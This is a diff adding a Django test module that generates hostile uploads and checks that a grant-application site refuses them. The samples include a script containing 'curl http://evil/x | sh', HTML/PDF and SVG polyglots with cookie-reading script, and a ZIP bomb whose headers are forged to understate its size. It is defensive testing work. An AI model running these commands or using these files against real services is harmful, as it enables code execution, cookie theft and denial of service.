@@ -1,0 +1,437 @@
+"""A corpus of hostile uploads (issue 8, "Hostile input"): a script renamed .pdf, HTML/PDF
+polyglots, an SVG with a script, a ZIP bomb posing as XLSX, a 50 MB file, an empty file and
+files of a type no field takes. Each is refused with a message in the page, and nothing is
+stored: no ApplicationDocument row and no file under MEDIA_ROOT.
+
+Every file is generated here, in tmp_path; nothing large is committed.
+``tests/test_uploads.py`` checks the messages of ``validate_upload`` on small samples; this
+module sends the full corpus through the applicant's real upload page and the roster import,
+and checks that the bomb is judged without being expanded.
+"""
+
+import io
+import re
+import struct
+import zipfile
+from pathlib import Path
+
+import pytest
+from django.core.exceptions import ValidationError
+from django.core.files.uploadedfile import SimpleUploadedFile, UploadedFile
+from django.urls import reverse
+from django.utils import translation
+
+from applications import services
+from applications.models import ApplicationDocument
+from ozgeris.uploads import JPEG, PNG, detect_type, validate_upload
+
+from .factories import PDF_BYTES, OrganisationFactory
+
+pytestmark = pytest.mark.django_db
+EN = {"HTTP_ACCEPT_LANGUAGE": "en"}
+MB = 1024 * 1024
+
+
+@pytest.fixture(autouse=True)
+def _english():
+    """Messages are matched in English (the pages get Accept-Language: en)."""
+    with translation.override("en"):
+        yield
+
+
+# ---------------------------------------------------------------------------
+# The corpus, generated
+# ---------------------------------------------------------------------------
+
+def write(tmp_path, name, data):
+    path = tmp_path / name
+    path.write_bytes(data)
+    return path
+
+
+def script_renamed_pdf(tmp_path):
+    return write(tmp_path, "balance.pdf", b"#!/bin/sh\ncurl http://evil/x | sh\n")
+
+
+def exe_renamed_pdf(tmp_path):
+    return write(tmp_path, "balance.pdf", b"MZ\x90\x00\x03" + b"\x00" * 500 + b"PE\x00\x00")
+
+
+def html_pdf_polyglot(tmp_path):
+    """A PDF header, then an HTML page a sniffing browser would render."""
+    return write(tmp_path, "balance.pdf",
+                 b"%PDF-1.4\n%<html><body><script>alert(document.cookie)</script></body>\n"
+                 + PDF_BYTES[9:])
+
+
+def html_first_polyglot(tmp_path):
+    """An HTML page whose comment carries a PDF header (PDF readers look a little way in)."""
+    return write(tmp_path, "balance.pdf",
+                 b"<!DOCTYPE html><html><!--\n%PDF-1.4\n-->"
+                 b"<script>alert(1)</script></html>\n" + PDF_BYTES)
+
+
+def svg_with_script(tmp_path):
+    return write(tmp_path, "logo.svg",
+                 b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">'
+                 b'<script>alert(document.domain)</script></svg>')
+
+
+def svg_renamed_png(tmp_path):
+    return write(tmp_path, "logo.png",
+                 b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
+
+
+BOMB_MEMBER_BYTES = 300 * MB  # what the bomb's sheet expands to
+
+
+_bomb = {}
+
+
+def zip_bomb(tmp_path, name="figures.xlsx"):
+    """An XLSX-looking ZIP (content types, workbook) whose sheet inflates to 300 MB of zeros
+    from a few hundred KB: streamed into the archive, never held in memory whole (and built
+    once per run; each test gets its own copy)."""
+    if "bytes" not in _bomb:
+        buffer = io.BytesIO()
+        chunk = b"0" * MB
+        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+            archive.writestr("[Content_Types].xml", "<Types/>")
+            archive.writestr("xl/workbook.xml", "<workbook/>")
+            with archive.open("xl/worksheets/sheet1.xml", "w") as member:
+                for _ in range(BOMB_MEMBER_BYTES // MB):
+                    member.write(chunk)
+        _bomb["bytes"] = buffer.getvalue()
+    return write(tmp_path, name, _bomb["bytes"])
+
+
+def lying_zip_bomb(tmp_path, name="figures.xlsx"):
+    """The same bomb, its local header and central directory claiming the sheet is 2 KB:
+    a check that trusts the declared sizes sees an ordinary workbook."""
+    data = bytearray(zip_bomb(tmp_path, name).read_bytes())
+    archive = zipfile.ZipFile(io.BytesIO(bytes(data)))
+    sheet = archive.getinfo("xl/worksheets/sheet1.xml")
+    assert sheet.file_size == BOMB_MEMBER_BYTES and not sheet.extra  # no ZIP64 fields
+    struct.pack_into("<I", data, sheet.header_offset + 22, 2048)  # local header
+    central = archive.start_dir
+    while data[central + 46:central + 46 + len(sheet.filename)] != sheet.filename.encode():
+        name_length, extra_length, comment_length = struct.unpack_from("<HHH", data,
+                                                                        central + 28)
+        central += 46 + name_length + extra_length + comment_length
+    struct.pack_into("<I", data, central + 24, 2048)  # central directory
+    assert zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(sheet.filename).file_size == 2048
+    return write(tmp_path, name, bytes(data))
+
+
+def fifty_megabytes(tmp_path):
+    """A genuine-looking PDF of 50 MB: over the 10 MB limit by size alone."""
+    path = tmp_path / "annual-report.pdf"
+    with path.open("wb") as handle:
+        handle.write(PDF_BYTES)
+        handle.truncate(50 * MB)  # sparse: the size without writing 50 MB from Python
+    return path
+
+
+def empty_file(tmp_path):
+    return write(tmp_path, "balance.pdf", b"")
+
+
+def word_document(tmp_path):
+    """A .docx: a ZIP, but not a workbook (a wrong extension for every field)."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr("word/document.xml", "<w:document/>")
+    return write(tmp_path, "balance.docx", buffer.getvalue())
+
+
+def plain_text(tmp_path):
+    return write(tmp_path, "balance.txt", "Баланс за 2018 год\n".encode())
+
+
+def html_page(tmp_path):
+    return write(tmp_path, "balance.html", b"<html><script>alert(1)</script></html>")
+
+
+CORPUS = {
+    "script renamed .pdf": (script_renamed_pdf, "not a PDF"),
+    "executable renamed .pdf": (exe_renamed_pdf, "not a PDF"),
+    "HTML/PDF polyglot": (html_pdf_polyglot, "markup"),
+    "HTML page carrying a PDF header": (html_first_polyglot, "not a PDF"),
+    "SVG with a script": (svg_with_script, "not a PDF"),
+    "SVG renamed .png": (svg_renamed_png, "not a PDF"),
+    "ZIP bomb posing as XLSX": (zip_bomb, "unreasonable size"),
+    "50 MB file": (fifty_megabytes, "limit"),
+    "empty file": (empty_file, "empty"),
+    "wrong extension: .docx": (word_document, "not an Excel workbook"),
+    "wrong extension: .txt": (plain_text, "not a PDF"),
+    "wrong extension: .html": (html_page, "not a PDF"),
+}
+
+
+def files_under(root):
+    root = Path(root)
+    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []
+
+
+# ---------------------------------------------------------------------------
+# Through the applicant's upload page
+# ---------------------------------------------------------------------------
+
+@pytest.fixture
+def media(settings, tmp_path):
+    """A MEDIA_ROOT of this test's own, so "nothing stored" means an empty folder."""
+    settings.MEDIA_ROOT = tmp_path / "media"
+    return settings.MEDIA_ROOT
+
+
+@pytest.fixture
+def draft(make_user, client, open_programme, media):
+    user = make_user(email="uploader@example.kz", preferred_language="en")
+    client.force_login(user)
+    organisation = OrganisationFactory(members=[user])
+    application, _created = services.start_application(
+        programme=open_programme, organisation=organisation,
+        nomination=open_programme.nominations.get(code="education"), by=user)
+    return application
+
+
+@pytest.mark.parametrize("label", list(CORPUS))
+@pytest.mark.parametrize("action", ["save", "submit"])
+def test_a_hostile_upload_is_refused_with_a_message_and_nothing_is_stored(
+    client, draft, media, tmp_path, label, action
+):
+    make, message = CORPUS[label]
+    path = make(tmp_path)
+    url = reverse("applications:edit", args=[draft.pk])
+
+    with path.open("rb") as handle:
+        response = client.post(url, {"project_title": "Қолөнер", "doc_balance_sheet": handle,
+                                     action: "1"}, **EN)
+
+    assert response.status_code == 200
+    page = response.content.decode()
+    assert message in page
+    assert path.name in page or "balance" in page  # the slot the message belongs to
+    assert not ApplicationDocument.objects.filter(application=draft).exists()
+    assert files_under(media) == []
+    draft.refresh_from_db()
+    assert draft.status == "draft"
+
+
+def test_a_refused_upload_next_to_an_accepted_one_stores_only_the_good_one(
+    client, draft, media, tmp_path
+):
+    bomb = zip_bomb(tmp_path)
+    with bomb.open("rb") as handle:
+        response = client.post(reverse("applications:edit", args=[draft.pk]), {
+            "doc_balance_sheet": SimpleUploadedFile("balance.pdf", PDF_BYTES),
+            "doc_tax_certificate": handle, "save": "1"}, **EN)
+
+    assert "unreasonable size" in response.content.decode()
+    assert list(draft.documents.values_list("kind", flat=True)) == ["balance_sheet"]
+    assert [p.suffix for p in files_under(media)] == [".pdf"]
+
+
+def test_a_pdf_with_a_misleading_name_is_stored_under_its_real_type(client, draft, media):
+    """The type comes from the content: a real PDF called .exe is kept, named .pdf, served as
+    a PDF attachment — never as what its name claims."""
+    client.post(reverse("applications:edit", args=[draft.pk]), {
+        "doc_balance_sheet": SimpleUploadedFile("setup.exe", PDF_BYTES,
+                                                content_type="application/x-msdownload"),
+        "save": "1"}, **EN)
+
+    document = draft.documents.get()
+    assert document.content_type == "application/pdf"
+    assert document.file.name.endswith(".pdf")
+    assert [p.suffix for p in files_under(media)] == [".pdf"]
+    download = client.get(reverse("applications:document", args=[draft.pk, document.pk]))
+    assert download["Content-Type"] == "application/pdf"
+    assert download["Content-Disposition"].startswith("attachment")
+    assert download["Content-Security-Policy"] == "sandbox"
+    assert download["X-Content-Type-Options"] == "nosniff"
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "product bug: applications.views.document_download names the attachment with the "
+    "uploader's original name, so a PDF uploaded as report.html (or setup.exe) is saved on "
+    "the juror's or staff member's computer as .html/.exe and opens as such; the download "
+    "name should end in the detected type's extension (ozgeris.uploads.EXTENSIONS)"))
+@pytest.mark.parametrize("name", ["report.html", "setup.exe", "figures.svg"])
+def test_a_download_is_named_after_its_detected_type(client, draft, media, name):
+    client.post(reverse("applications:edit", args=[draft.pk]), {
+        "doc_balance_sheet": SimpleUploadedFile(name, PDF_BYTES), "save": "1"}, **EN)
+
+    document = draft.documents.get()
+    download = client.get(reverse("applications:document", args=[draft.pk, document.pk]))
+    assert re.search(r'filename="[^"]*\.pdf"', download["Content-Disposition"]), \
+        download["Content-Disposition"]
+
+
+def test_markup_deep_inside_a_pdf_is_only_ever_served_as_a_sandboxed_attachment(
+    client, draft, media
+):
+    """The markup check reads the first 2 KB; a PDF may carry "<html" further in (inside a
+    stream, legitimately). Such a file is kept, but never served as a page a browser runs."""
+    deep = PDF_BYTES[:9] + b"%" + b"0" * 4096 + b"\n%<html><script>alert(1)</script>\n" \
+        + PDF_BYTES[9:]
+    client.post(reverse("applications:edit", args=[draft.pk]), {
+        "doc_balance_sheet": SimpleUploadedFile("report.html", deep, "text/html"),
+        "save": "1"}, **EN)
+
+    document = draft.documents.get()
+    download = client.get(reverse("applications:document", args=[draft.pk, document.pk]))
+    assert download["Content-Type"] == "application/pdf"
+    assert download["Content-Disposition"].startswith("attachment")
+    assert download["Content-Security-Policy"] == "sandbox"
+    assert download["X-Content-Type-Options"] == "nosniff"
+
+
+# ---------------------------------------------------------------------------
+# validate_upload directly (every field's types; the finalist's photo too)
+# ---------------------------------------------------------------------------
+
+def uploaded(path):
+    return SimpleUploadedFile(path.name, path.read_bytes())
+
+
+@pytest.mark.parametrize("label", [name for name in CORPUS if name != "50 MB file"])
+@pytest.mark.parametrize("allowed", [None, (JPEG, PNG)], ids=["documents", "photo"])
+def test_validate_upload_refuses_the_corpus(tmp_path, label, allowed):
+    make, message = CORPUS[label]
+    upload = uploaded(make(tmp_path))
+
+    with pytest.raises(ValidationError) as refused:
+        if allowed:
+            validate_upload(upload, allowed=allowed)
+        else:
+            validate_upload(upload)
+
+    text = " ".join(refused.value.messages)
+    assert text  # a message, whatever the field
+    if allowed is None:
+        assert message in text
+
+
+def test_the_50_mb_file_is_refused_by_its_size_without_being_read(tmp_path):
+    path = fifty_megabytes(tmp_path)
+    reads = []
+
+    class Watched(io.FileIO):
+        def read(self, size=-1):
+            reads.append(size)
+            return super().read(size)
+
+    with Watched(path, "rb") as handle:
+        upload = UploadedFile(handle, name=path.name, size=path.stat().st_size)
+        with pytest.raises(ValidationError, match="limit"):
+            validate_upload(upload)
+    assert reads == []
+
+
+def test_the_zip_bomb_is_judged_without_being_expanded(tmp_path, monkeypatch):
+    """The refusal comes from the archive's directory: at most a little is inflated, never
+    the 300 MB (counted in bytes inflated, not in seconds)."""
+    inflated = []
+    original_read = zipfile.ZipExtFile.read
+    original_read1 = zipfile.ZipExtFile.read1
+
+    def counting_read(self, n=-1):
+        data = original_read(self, n)
+        inflated.append(len(data))
+        return data
+
+    def counting_read1(self, n=-1):
+        data = original_read1(self, n)
+        inflated.append(len(data))
+        return data
+
+    monkeypatch.setattr(zipfile.ZipExtFile, "read", counting_read)
+    monkeypatch.setattr(zipfile.ZipExtFile, "read1", counting_read1)
+    path = zip_bomb(tmp_path)
+    inflated.clear()
+    assert path.stat().st_size < 2 * MB
+
+    with path.open("rb") as handle:
+        upload = SimpleUploadedFile(path.name, handle.read())
+    with pytest.raises(ValidationError, match="unreasonable size"):
+        detect_type(upload)
+    with pytest.raises(ValidationError, match="unreasonable size"):
+        validate_upload(upload)
+
+    assert sum(inflated) < MB
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "product bug: ozgeris.uploads._check_xlsx trusts the sizes the ZIP directory declares; "
+    "a bomb that under-declares its sheet (2 KB claimed, 300 MB real) passes validate_upload "
+    "and is stored as an application document. Fix: inflate each member in bounded chunks "
+    "(up to the limit) instead of summing the declared file_size."))
+def test_a_bomb_that_lies_about_its_size_is_refused(tmp_path):
+    upload = uploaded(lying_zip_bomb(tmp_path))
+    with pytest.raises(ValidationError):
+        validate_upload(upload)
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "product bug: the lying ZIP bomb (directory claims 2 KB, sheet inflates to 300 MB) "
+    "is accepted by the applicant's upload page and stored under MEDIA_ROOT; see "
+    "test_a_bomb_that_lies_about_its_size_is_refused"))
+def test_a_lying_bomb_is_refused_by_the_upload_page(client, draft, media, tmp_path):
+    path = lying_zip_bomb(tmp_path)
+    with path.open("rb") as handle:
+        client.post(reverse("applications:edit", args=[draft.pk]),
+                    {"doc_balance_sheet": handle, "save": "1"}, **EN)
+    assert not ApplicationDocument.objects.filter(application=draft).exists()
+    assert files_under(media) == []
+
+
+def test_reading_a_lying_bomb_stops_at_the_declared_size(tmp_path):
+    """Where the server does open a workbook (the roster import, through openpyxl), zipfile
+    inflates no more than the directory declares and then fails the CRC: no 300 MB."""
+    archive = zipfile.ZipFile(lying_zip_bomb(tmp_path))
+    with pytest.raises(zipfile.BadZipFile), archive.open("xl/worksheets/sheet1.xml") as sheet:
+        assert len(sheet.read()) <= 2048
+
+
+# ---------------------------------------------------------------------------
+# The roster import takes XLSX: the bomb and the forgeries are refused there too
+# ---------------------------------------------------------------------------
+
+@pytest.fixture
+def meeting(demo_programme):
+    import datetime
+
+    from events.models import InfoMeeting
+    from ozgeris.models import Region
+
+    return InfoMeeting.objects.create(programme=demo_programme, city="Атырау",
+                                      region=Region.objects.get(code="atyrau"),
+                                      held_on=datetime.date(2019, 9, 18), venue="Коворкинг")
+
+
+@pytest.mark.parametrize(("make", "name", "message"), [
+    (zip_bomb, "roster.xlsx", "unreasonable size"),
+    (svg_with_script, "roster.xlsx", "not a PDF"),
+    (html_pdf_polyglot, "roster.xlsx", "markup"),
+    (word_document, "roster.xlsx", "not an Excel workbook"),
+    (lying_zip_bomb, "roster.xlsx", "damaged"),
+    (empty_file, "roster.xlsx", "empty"),
+    (empty_file, "roster.csv", "empty"),
+    (exe_renamed_pdf, "roster.csv", "not a CSV"),
+])
+def test_the_roster_import_refuses_hostile_files(client, staff, meeting, media, tmp_path,
+                                                 make, name, message):
+    staff.preferred_language = "en"
+    staff.save()
+    client.force_login(staff)
+    data = make(tmp_path).read_bytes()
+
+    response = client.post(reverse("admin:events_infomeeting_import", args=[meeting.pk]),
+                           {"file": SimpleUploadedFile(name, data)}, **EN)
+
+    assert response.status_code == 200
+    assert message in response.content.decode()
+    assert not response.context.get("payload")
+    assert not meeting.roster.exists()
+    assert files_under(media) == []
